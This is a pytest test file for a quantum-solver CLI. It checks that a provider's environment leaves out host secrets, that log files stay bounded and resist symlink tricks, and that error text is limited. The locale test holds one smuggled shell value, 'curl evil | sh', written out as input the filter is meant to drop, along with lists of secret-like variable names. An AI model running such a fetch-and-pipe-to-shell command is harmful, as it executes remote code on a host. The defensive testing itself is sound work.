"""A process provider's ``env`` never names the host's own secrets or settings (issue 35): refused at
``qsolve providers add``, and skipped (said in one line) when the program starts from a providers.yaml
edited by hand; its log file is bounded; what it says in an error is bounded where it is said."""

from __future__ import annotations

import json
import logging
import os
import sys
import textwrap

import pytest
import yaml

from qsolve.cli import main
from qsolve.providers.connect import open_client
from qsolve.providers.errors import SAID_CHARS, ProviderError, bounded
from qsolve.providers.program_env import host_variable
from qsolve.providers.program_log import ProviderLog

DESCRIBE = {"protocol": "wai.quantum.provider/1", "op": "describe"}
ENVIRON = textwrap.dedent(
    """
    import json, os, sys
    for line in sys.stdin:
        print(json.dumps({"ok": True, "env": dict(os.environ)}), flush=True)
    """
)
#: the host's variables, each with its value (what a provider must never see)
HOST = {
    "QISKIT_IBM_TOKEN": "ibm-9a8b",
    "AWS_SECRET_ACCESS_KEY": "aws-5f6e",
    "PREFECT_API_KEY": "prefect-1c2d",
    "PGPASSWORD": "pg-3e4f",
    "DATABASE_URL": "postgresql://u:pw-7a7a@db/x",
    "OPENAI_API_KEY": "openai-0b0b",
    "GOOGLE_APPLICATION_CREDENTIALS": "/keys/gcp.json",
    "AZURE_CLIENT_SECRET": "azure-2c2c",
    "LAB_SECRET": "lab-secret-4d4d",
    "MY_PRIVATE_THING": "private-5e5e",
    "OTHER_LAB_KEY": "other-providers-key-6f6f",
}


@pytest.fixture
def home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    monkeypatch.setenv("QSOLVE_HOME", str(home))
    monkeypatch.delenv("QSOLVE_DATABASE_URL", raising=False)
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.fail.Keyring")
    for name, value in HOST.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("LAB_REGION", "eu-1")
    return home


@pytest.mark.parametrize("name", [*HOST, "QSOLVE_HOME", "PGHOST", "QSOLVE_DATABASE_URL"])
def test_providers_add_refuses_the_hosts_secrets_and_settings_in_one_line(home, tmp_path, capsys, name):
    script = tmp_path / "environ.py"
    script.write_text(ENVIRON)
    if name == "OTHER_LAB_KEY":  # another provider's credential variable, recorded by its name
        argv = ["providers", "add", "other", "--process", "--credential-env", name, "--", sys.executable]
        assert main([*argv, str(script)]) == 0
        capsys.readouterr()
    code = main(["providers", "add", "nosy", "--process", "--env", name, "--", sys.executable, str(script)])
    err = capsys.readouterr().err
    assert code == 2
    assert len(err.strip().splitlines()) == 1 and f"--env {name}:" in err and "Traceback" not in err
    assert "nosy" not in ((home / "providers.yaml").read_text() if (home / "providers.yaml").exists() else "")


def test_an_ordinary_variable_is_passed_on():
    assert host_variable("LAB_REGION") is None
    assert host_variable("BENT_BASIS") is None
    assert host_variable("OWN_KEY", ["OWN_KEY"]) is not None  # a credential's variable, whatever its name


def test_a_providers_yaml_edited_by_hand_passes_none_of_them_and_says_so(home, tmp_path, caplog):
    script = tmp_path / "environ.py"
    script.write_text(ENVIRON)
    argv = ["providers", "add", "other", "--process", "--credential-env", "OTHER_LAB_KEY", "--"]
    assert main([*argv, sys.executable, str(script)]) == 0
    assert main(["providers", "add", "nosy", "--process", "--env", "LAB_REGION", "--", sys.executable,
                 str(script)]) == 0  # fmt: skip
    path = home / "providers.yaml"
    doc = yaml.safe_load(path.read_text())
    doc["providers"]["nosy"]["env"] = ["LAB_REGION", *HOST]
    path.write_text(yaml.safe_dump(doc))
    client, _ = open_client("nosy")
    try:
        with caplog.at_level(logging.WARNING, logger="qsolve.providers.program_env"):
            env = client.transport.exchange(DESCRIBE, 60)["env"]
    finally:
        client.close()
    assert env.get("LAB_REGION") == "eu-1"
    seen = json.dumps(env)
    for name, value in HOST.items():
        assert name not in env and value not in seen
    said = [r.getMessage() for r in caplog.records]
    for name in HOST:
        (line,) = [s for s in said if s.startswith(f"env {name}:")]
        assert "\n" not in line and "not passed on" in line


def test_a_log_file_past_its_bound_is_moved_aside_and_keeps_the_newest_lines(tmp_path):
    path, aside = tmp_path / "p.log", tmp_path / "p.log.1"
    log = ProviderLog(path=path, file_bytes=1000, max_chars=100)
    lines = [f"{i:03d}".encode() + b"y" * 96 + b"\n" for i in range(50)]  # 5,000 bytes in all
    for line in lines:
        log.feed(line)
    log.close()
    now, before = path.read_bytes(), aside.read_bytes()
    assert len(now) <= 1000 and len(before) <= 1000
    assert now.endswith(lines[-1]) and before + now == b"".join(lines[-len((before + now).splitlines()) :])
    assert log.text().endswith(lines[-1].decode())  # what is kept in memory: its last characters, as before


def test_a_log_that_cannot_be_moved_aside_keeps_its_bound_and_says_what_was_dropped(tmp_path):
    victim = tmp_path / "victim"
    victim.write_text("keep\n")
    path, aside = tmp_path / "p.log", tmp_path / "p.log.1"
    aside.symlink_to(victim)  # never replaced, never written through
    log = ProviderLog(path=path, file_bytes=1000)
    for _ in range(50):
        log.feed(b"y" * 99 + b"\n")
    log.close()
    text = path.read_text()
    assert text.startswith("y" * 99 + "\n") and len(text.encode()) < 1400
    assert "reached its bound of 1000 bytes" in text
    assert text.rstrip().endswith("[qsolve: 4000 bytes of this log were dropped]")
    assert aside.is_symlink() and victim.read_text() == "keep\n"


@pytest.mark.parametrize("kind", ["fifo", "hard link", "folder"])
def test_a_log_that_is_no_regular_file_of_ours_is_not_written_and_said(tmp_path, caplog, kind):
    path, other = tmp_path / "p.log", tmp_path / "other"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "hard link":
        other.write_text("keep\n")
        os.link(other, path)
    else:
        path.mkdir()
    with caplog.at_level(logging.WARNING, logger="qsolve.providers.program_log"):
        log = ProviderLog(path=path, file_bytes=1000)
        log.feed(b"written by the provider\n")
        log.close()
    (said,) = [r.getMessage() for r in caplog.records]
    assert said.startswith(f"provider log {path}: nothing is written to it") and "\n" not in said
    assert log.text() == "written by the provider\n"  # still kept in memory
    if kind == "hard link":
        assert other.read_text() == "keep\n"


def test_a_log_file_found_at_its_bound_is_moved_aside_once(tmp_path, monkeypatch):
    path = tmp_path / "p.log"
    path.write_text("a" * 100)
    (tmp_path / "p.log.1").write_text("older")
    log = ProviderLog(path=path, file_bytes=100)
    log.feed(b"new\n")
    log.close()
    assert path.read_text() == "new\n"
    assert (tmp_path / "p.log.1").read_text() == "a" * 100  # the one before replaced, never a third kept


def test_what_a_provider_says_in_an_error_is_bounded_and_counted():
    e = ProviderError("lab", "result", "internal", "E\n" * 100_000)
    said = str(e)
    assert len(said.splitlines()) == 1 and said.endswith("… (200000 characters in all)")
    assert len(said) < 3 * SAID_CHARS
    assert bounded("short") == "short"


def test_a_secret_is_taken_out_before_the_cut(tmp_path):
    secret = "s3cr3t-value"
    detail = "x" * (SAID_CHARS - 4) + secret
    said = str(ProviderError("lab", "result", "internal", detail, secrets=[secret]))
    assert "s3cr" not in said


def test_the_evaluation_models_key_variable_is_never_passed_on(home, tmp_path, monkeypatch, capsys):
    config = tmp_path / "evaluation.yaml"
    config.write_text(
        "models:\n  - id: judge-1\n    base_url: http://127.0.0.1:8000/v1\n    api_key_env: JUDGE_AUTH\n"
    )
    monkeypatch.setenv("QSOLVE_EVALUATION_CONFIG", str(config))
    monkeypatch.setenv("JUDGE_AUTH", "judge-7a7a")
    script = tmp_path / "environ.py"
    script.write_text(ENVIRON)
    code = main(
        ["providers", "add", "nosy", "--process", "--env", "JUDGE_AUTH", "--", sys.executable, str(script)]
    )
    err = capsys.readouterr().err
    assert code == 2 and "--env JUDGE_AUTH:" in err and "credential" in err
    assert host_variable("RIG_KEY") is not None  # a name ending in KEY is a secret's


#: a variable no name marks, holding a value the host keeps secret
NEUTRAL = "LAB_ZONE"


@pytest.mark.parametrize("holds", ["credential", "ibm key", "own secret", "url password"])
def test_a_variable_whose_value_is_a_secret_is_refused_at_add_and_left_out_at_start(
    home, tmp_path, capsys, caplog, monkeypatch, holds
):
    from qsolve.providers.credentials import CredentialStore, Secret

    script = tmp_path / "environ.py"
    script.write_text(ENVIRON)
    value = {
        "credential": "lab-cred-8c8c8c",
        "ibm key": "ibm-key-7d7d7d",
        "own secret": HOST["PGPASSWORD"] + "-long",
        "url password": "amqp://u:pw-3b3b@broker/x",
    }[holds]
    if holds == "credential":  # another provider's stored credential, its variable unrecorded
        monkeypatch.setenv("LAB_CRED_SOURCE_X", value)
        argv = ["providers", "add", "other", "--process", "--credential-env", "LAB_CRED_SOURCE_X", "--"]
        assert main([*argv, sys.executable, str(script)]) == 0
        monkeypatch.delenv("LAB_CRED_SOURCE_X")  # the stored credential alone
    elif holds == "ibm key":
        CredentialStore(home).put("ibm", Secret(value))
    elif holds == "own secret":
        monkeypatch.setenv("PGPASSWORD", value)
    monkeypatch.setenv(NEUTRAL, "eu-2")
    argv = ["providers", "add", "nosy", "--process", "--env", NEUTRAL, "--", sys.executable, str(script)]
    assert main(argv) == 0  # an ordinary value: added
    monkeypatch.setenv(NEUTRAL, value)
    capsys.readouterr()
    assert main([*argv[:2], "nosy2", *argv[3:]]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and f"--env {NEUTRAL}:" in err and value not in err
    client, _ = open_client("nosy")  # added before the value was: left out when it starts, and said
    try:
        with caplog.at_level(logging.WARNING, logger="qsolve.providers.program_env"):
            env = client.transport.exchange(DESCRIBE, 60)["env"]
    finally:
        client.close()
    assert NEUTRAL not in env and value not in json.dumps(env)
    (said,) = [r.getMessage() for r in caplog.records if r.getMessage().startswith(f"env {NEUTRAL}:")]
    assert "not passed on" in said and value not in said


def test_only_the_locale_categories_with_a_locales_value_are_passed_on(tmp_path):
    from qsolve.providers.program_env import provider_environment

    source = {
        "LANG": "en_US.UTF-8",
        "LC_ALL": "C.UTF-8",
        "LC_TIME": "sr_RS@latin",
        "LC_NUMERIC": "es_419.utf8",
        "LC_MESSAGES": "x; curl evil | sh",
        "LC_TERMINAL": "iTerm2",
        "LC_PAT": "tok-2b2b",
    }
    env = provider_environment(source, scratch=tmp_path)
    assert {k: v for k, v in env.items() if k.startswith(("LC_", "LANG"))} == {
        "LANG": "en_US.UTF-8",
        "LC_ALL": "C.UTF-8",
        "LC_TIME": "sr_RS@latin",
        "LC_NUMERIC": "es_419.utf8",
    }


@pytest.mark.parametrize("name", ["DB_PASS", "SMTP_PWD", "DBPASS", "OAUTH_CLIENT", "GH_PAT", "SESSION_ID",
                                  "AUTH_COOKIE", "PGDSN", "AZURE_CONN_STR"])  # fmt: skip
def test_common_secret_spellings_are_secrets(name):
    assert host_variable(name) is not None


@pytest.mark.parametrize("name", ["PWD", "OLDPWD", "PATH", "PYTHONPATH", "GIT_AUTHOR_NAME", "COMPASS_DIR",
                                  "BYPASS_CACHE", "LAB_REGION"])  # fmt: skip
def test_names_like_a_secrets_that_are_none_are_passed_on(name):
    assert host_variable(name) is None


def test_a_short_value_of_a_secret_named_variable_is_no_secret_to_another(tmp_path):
    from qsolve.providers.registry import known_secret_values

    environ = {"DESKTOP_SESSION": "ubuntu", "XDG_SESSION_TYPE": "wayland", "LAB_PASS": "lab-pass-9e9e"}
    values = known_secret_values(tmp_path, environ)
    assert "lab-pass-9e9e" in values and "ubuntu" not in values and "wayland" not in values
